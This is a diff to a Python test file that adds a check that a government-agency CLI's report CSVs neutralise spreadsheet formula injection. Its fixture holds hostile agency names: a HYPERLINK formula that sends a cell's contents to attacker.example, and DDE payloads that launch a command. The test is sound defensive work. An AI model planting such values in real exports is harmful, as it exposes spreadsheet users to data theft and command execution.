@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 from collections.abc import Callable
 from datetime import UTC, datetime, timedelta
@@ -225,3 +226,33 @@ def test_audit_verify_ok_then_broken(upgraded_cli: Invoke, cli_settings: Setting
     assert broken.exit_code == 1
     assert f"audit chain BROKEN at entry {second} (after 1 good entries)" in broken.stderr
     assert "edited" in broken.stderr
+
+
+FORMULA_NAMES = {
+    "000.00.00.G22": '=HYPERLINK("http://attacker.example/?"&A1,"Văn phòng Chính phủ")',
+    "000.00.00.H41": "+cmd|' /C calc'!A0",
+    "000.00.00.H14": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "000.00.00.H30": "-2+3",
+}
+
+
+def test_report_csvs_never_carry_a_formula(upgraded_cli: Invoke, tmp_path: Path) -> None:
+    """Agency names that a spreadsheet would run are written as text (a leading quote); numbers stay numbers."""
+    rows = "".join(f'{code},"{name.replace(chr(34), chr(34) * 2)}",1,,0,\n' for code, name in FORMULA_NAMES.items())
+    imported = upgraded_cli("agencies", "import", str(_write(tmp_path, "hostile.csv", HEADER + rows)))
+    assert imported.exit_code == 0, imported.output
+    added = upgraded_cli("agencies", "add", "000.00.01.G22", "@ Phòng Hành chính", "--level", "2", "--parent",
+                         "000.00.00.G22")
+    assert added.exit_code == 0, added.output
+    grades, table = tmp_path / "grades.csv", tmp_path / "report.csv"
+    result = upgraded_cli("report", "--grades-csv", str(grades), "--csv", str(table))
+    assert result.exit_code == 0, result.output
+
+    written = {row["code"]: row for row in csv.DictReader(grades.open(encoding="utf-8", newline=""))}
+    expected = {**FORMULA_NAMES, "000.00.01.G22": "@ Phòng Hành chính"}
+    assert {code: row["name"] for code, row in written.items()} == {c: "'" + n for c, n in expected.items()}
+    assert written["000.00.01.G22"]["level"] == "2" and written["000.00.01.G22"]["parent_code"] == "000.00.00.G22"
+    assert written["000.00.00.H30"]["connected"] == "0"
+    for path in (grades, table):
+        for row in csv.reader(path.open(encoding="utf-8", newline="")):
+            assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], row
